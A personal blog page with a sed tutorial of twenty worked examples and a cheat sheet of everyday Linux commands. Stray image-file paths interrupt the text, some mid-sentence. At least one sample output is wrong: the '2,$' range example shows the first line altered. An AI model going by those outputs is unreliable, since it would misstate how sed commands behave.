Mahesh's Blog

" It's hard to beat a person who believes in his or her own strength. And I believe in mine."

Tuesday, March 03, 2015

Sed Command Examples

Sed is a Stream Editor used for modifying the files in unix (or linux). Whenever you want to make changes to the file automatically, sed comes in handy to do this. Most people never learn its power; they just simply use sed to replace text. You can do many things apart from replacing text with sed. Here I will describe the features of sed with examples.

Consider the below text file as an input.

>cat file.txt
unix is great os. unix is opensource. unix is free os.
learn operating system.
unixlinux which one you choose.

Sed Command Examples

1. Replacing or substituting string

Sed command is mostly used to replace the text in a file. The below simple sed command replaces the word "unix" with "linux" in the file.

>sed 's/unix/linux/' file.txt
linux is great os. unix is opensource. unix is free os.
learn operating system.
linuxlinux which one you choose.

Here the "s" specifies the substitution operation. The "/" are delimiters. The "unix" is the search pattern and the "linux" is the replacement string.By default, the sed command replaces the first occurrence of the pattern in each line and it won't replace the second, third...occurrence in the line.

2. Replacing the nth occurrence of a pattern in a line.

Use the /1, /2 etc flags to replace the first, second occurrence of a pattern in a line. The below command replaces the second occurrence of the word "unix" with "linux" in a line.

>sed 's/unix/linux/2' file.txt
unix is great os. linux is opensource. unix is free os.
learn operating system.
unixlinux which one you choose.3. Replacing all the occurrence of the pattern in a line.

The substitute flag /g (global replacement) specifies the sed command to replace all the occurrences of the string in the line.

>sed 's/unix/linux/g' file.txt
linux is great os. linux is opensource. linux is free os.
learn operating system.
linuxlinux which one you choose.4. Replacing from nth occurrence to all occurrences in a line.

Use the combination of /1, /2 etc and /g to replace all the patterns from the nth occurrence of a pattern in a line. The following sed command replaces the third, fourth, fifth... "unix" word with "linux" word in a line.

>sed 's/unix/linux/3g' file.txt
unix is great os. unix is opensource. linux is free os.
learn operating system.
unixlinux which one you choose.

5. Changing the slash (/) delimiter

You can use any delimiter other than the slash. As an example if you want to change the web url to another url as

>sed 's/http:\/\//www/' file.txt

In this case the url consists the delimiter character which we used.In that case you have to escape the slash with backslash character, otherwise the substitution won't work.

Using too many backslashes makes the sed command look awkward. In this case we can change the delimiter to another character as shown in the below example.

>sed 's_http://_www_' file.txt
>sed 's|http://|www|' file.txt

6. Using & as the matched string

There might be cases where you want to search for the pattern and replace that pattern by adding some extra characters to it. In such cases & comes in handy. The & represents the matched string.

>sed 's/unix/{&}/' file.txt
{unix} is great os. unix is opensource. unix is free os.
learn operating system.
{unix}linux which one you choose.

>sed 's/unix/{&&}/' file.txt
{unixunix} is great os. unix is opensource. unixis free os.
learn operating system.
{unixunix}linux which one you choose.

7. Using \1,\2 and so on to \9

The first pair of parenthesis specified in the pattern represents the \1, the second represents the \2 and so on. The \1,\2 can be used in the replacement string to make changes to the source string. As an example, if you want to replace the word "unix" in a line with twice as the word like "unixunix" use the sed command as below.

>sed 's/\(unix\)/\1\1/' file.txt
unixunix is great os. unix is opensource. unix is free os.
learn operating system.unixunixlinux which one you choose.

The parenthesis needs to be escaped with the backslash character. Another example is if you want to switch the words "unixlinux" as "linuxunix", the sed command is

>sed 's/\(unix\)\(linux\)/\2\1/' file.txt
unix is great os. unix is opensource. unix is free os.
learn operating system.
linuxunix which one you choose.

Another example is switching the first three characters in a line

>sed 's/^\(.\)\(.\)\(.\)/\3\2\1/' file.txt
inux is great os. unix is opensource. unix is free os.
aelrn operating system.
inuxlinux which one you choose.

8. Duplicating the replaced line with /p flag

The /p print flag prints the replaced line twice on the terminal. If a line does not have the search pattern and is not replaced, then the /p prints that line only once.>sed 's/unix/linux/p' file.txt
linux is great os. unix is opensource. unix is free os.
linux is great os. unix is opensource. unix is free os.
learn operating system.
linuxlinux which one you choose.
linuxlinux which one you choose.

9. Printing only the replaced lines

Use the -n option along with the /p print flag to display only the replaced lines. Here the -n option suppresses the duplicate rows generated by the /p flag and prints the replaced lines only one time.

>sed -n 's/unix/linux/p' file.txt
linux is great os. unix is opensource. unix is free os.
linuxlinux which one you choose.

If you use -n alone without/p, then the sed does not print anything.

10. Running multiple sed commands.

You can run multiple sed commands by piping the output of one sed command as input to another sed command.

>sed 's/unix/linux/' file.txt| sed 's/os/system/'
linux is great system. unix is opensource. unix is free os.
learn operating system.
linuxlinux which one you chosysteme.

Sed provides -e option to run multiple sed commands in a single sed command. The above output can be achieved in a single sed command as shown below.

>sed -e 's/unix/linux/' -e 's/os/system/' file.txt
linux is great system. unix is opensource. unix is free os.
learn operating system.
linuxlinux which one you chosysteme.

11. Replacing string on a specific line number.You can restrict the sed command to replace the string on a specific line number. An example is

>sed '3 s/unix/linux/' file.txt
unix is great os. unix is opensource. unix is free os.
learn operating system.
linuxlinux which one you choose.

The above sed command replaces the string only on the third line.

12. Replacing string on a range of lines.

You can specify a range of line numbers to the sed command for replacing a string.

>sed '1,3 s/unix/linux/' file.txt
linux is great os. unix is opensource. unix is free os.
learn operating system.
linuxlinux which one you choose.Here the sed command replaces the lines with range from 1 to 3. Another example is

>sed '2,$ s/unix/linux/' file.txt
linux is great os. unix is opensource. unix is free os.
learn operating system.
linuxlinux which one you choose.

Here $ indicates the last line in the file. So the sed command replaces the text from second line to last line in the file.

13. Replace on a lines whichmatches a pattern.

You can specify a pattern to the sed command to match in a line. If the pattern match occurs, then only the sed command looks for the string to be replaced and if it finds, then the sed command replaces the string.

>sed '/linux/ s/unix/centos/' file.txt
unix is great os. unix is opensource. unix is free os.
learn operating system.
centoslinux which one you choose.

Here the sed command first looks for the lines which has the pattern "linux" and then replaces the word "unix" with "centos".

14. Deleting lines.

You can delete the lines a file by specifying the line number or a range or numbers.

>sed '2 d' file.txt
>sed '5,$ d' file.txt

15. Duplicating lines

You can make the sed command to print each line of a file two times.

>sed 'p' file.txt

16. Sed as grep commandYou can make sed command to work as similar to grep command.

>grep 'unix' file.txt
>sed -n '/unix/ p' file.txt

Here the sed command looks for the pattern "unix" in each line of a file and printsthose lines that has the pattern.

You can also make the sed command to work as grep -v, just by using the reversing the sed with NOT (!).

>grep -v 'unix' file.txt
>sed -n '/unix/ !p' file.txt

The ! here inverts the pattern match.

17. Add a line after a match.

The sed command can add a new line after a pattern match is found. The "a" command to sed tells it to add a new line after a matchis found.

>sed '/unix/ a "Add a new line"' file.txt
unix is great os. unix is opensource. unix is free os.
"Add a new line"
learn operating system.
unixlinux which one you choose.
"Add a new line"

18. Add a line before a match

The sed command can add a new line before a pattern match is found. The "i" command to sed tells it to add a new line before a match is found.

>sed '/unix/ i "Add a new line"' file.txt
"Add a new line"
unix is great os. unix is opensource. unix is free os.
learn operating system.
"Add a newline"
unixlinux which one you choose.

19. Change a line

The sed command can be used to replace an entire line with a new line. The "c" command to sed tells it to change the line.

>sed '/unix/ c "Change line"' file.txt
"Change line"
learn operating system.
"Change line"

20. Transform like tr command

The sed command can be used to convert the lower case letters to upper case letters by using the transform "y" option.>sed 'y/ul/UL/' file.txt
Unix is great os. Unix is opensoUrce. Unix is freeos.
Learn operating system.
UnixLinUx which one yoU choose.

Here the sed command transforms the alphabets "ul" into their uppercase format "UL"

Wednesday, January 14, 2015

Useful LINUX commands

    grep command: Searches for given string in files
        grep -i "search_text" file_name
        grep -ilrn "search_text" *             (To search in all files)
        Attributes: i for ignore case, l for list names of files, r for searching recursively, n for line number where text is matched in the file
    find command: Finds files using file-name
        find -iname "MyTextFile.c"
        find -iname "MyTextFile.c" -exec md5sum {} \;    :Executes commands on files found by the find command
        find ~ -empty                     :Finds all  empty files in home directory
    pwd command: pwd is Present working directory. It prints the current directory.
    cd command: It is used to change the directory.
        Use “cd -” to toggle between the last two directories
        Use “shopt -s cdspell” to automatically correct mistype directory names on cd
    diff command: compares two files
        diff -w file1.txt file2.txt
    tar command examples:
        tar cvf archive_name.tar dirname/     :Creates a new tar archive
        tar xvf archive_name.tar   : Extracts from existing tar archive
        tar tvf archive_name.tar   : view an existing tar archive
    gzip command examples
        gzip file.txt : creates a *.gz compressed file
        gzip -d file.txt.gz  : Uncompress a *.gz file
        gzip -l *.gz  : Displays the compression ratio of the compressed filebzip2 command examples
        bzip2 file.txt  : creates a *.bz2 compressed file
        bzip2 -d file.txt.bz2  : uncompresses a *.bz2 file
    unzip command examples
        unzip   : Extracts the zipped file
        unzip -l  : views the content of zipped file without unzipping
    ssh commands: It is used to work remotely
        ssh -l kamal     : Login to remote gost
        ssh -l kamal
        ssh -v -l kamal   : Debug ssh client
        ssh -V : Display ssh client version
    ftp command examples
        ftp IP/hostname    : connects to a remote server
        ftp> mget *.html  : Download file from that server
        ftp> mls *.html -   : views the file names located on the remote server
    wget command :wget : to download any file from internet
        wget -O  :  Download and store it
    vim command examples
        vim +14 file.txt   : Go to the 14th line of file
        vim +/search_text file.txt  : goto the first match of the specified search text
        vim -R /etc/passwd  : Opent he file in the read only mode
    sort command examples
        sort nameList.txt :  Sorts a file in ascending order
        sort -r nameList.txt :  Sorts a file in descending order
        sort -t: -k 3n /etc/passwd | more :  Sorts passwdfile by third field
    xargs command examples
        ls *.jpg | xargs -n1 -icp {} /external-drive/directory    : Copy all images to external drive
        find / -name *.jpg -type f -print | xargs tar -cvzf allImages.tar.gz    : Search all jpg images in the system and archiveit.
        cat url-list.txt | xargs wget –c  :  Downloads all the URLs mentioned in the url-list.txt file
    ls command examples
        ls -lh :  Displays filesize in KB / MB
        ls -ltr  :  Orders Files Based on Last Modified Time
        ls -F   : Visual Classification of Files
    sed command examples
        sed 's/.$//' filename  :Converts the DOS file format to Unix file format (removes \r or \n)
        sed -n '1!G;h;$p' file.txt   : Prints file content in reverse order
        sed '/./=' file.txt | sed 'N; s/\n/ /'  :  Adds line number for all non-empty-lines in the file
    awk command examples
        awk '!($0 in array) { array[$0]; print }' temp   : Removes duplicate lines
        awk -F ':' '$3==$4' passwd.txt   ;  Prints all lines from /etc/passwd that has the same uid and gid
        awk '{print $2,$5;}' file.txt   : Prints only specific field from a file.
    shutdown command examples
        shutdown -h now   : Shutdown the system and turn the power off immediately.
        shutdown -h +10   : Shutdown the system after 10 minutes.
        shutdown -r now    : Reboot the system
        shutdown -Fr now  : Force the filesystem check during reboot.
    crontab command examples
        crontab -u kamal -l  : View crontab entry for a specific user
    service command examples : Service commands are used to run the system V init scripts. i.e Instead of calling the scripts located in the /etc/init.d/ directory with their full path, we can use the service command.
        service ssh status  : checks the service status
        service --status-all : Check the status of all the services.
        service ssh restart :  Restart a service
    ps command :  It is used to display information about the processes running in the system.
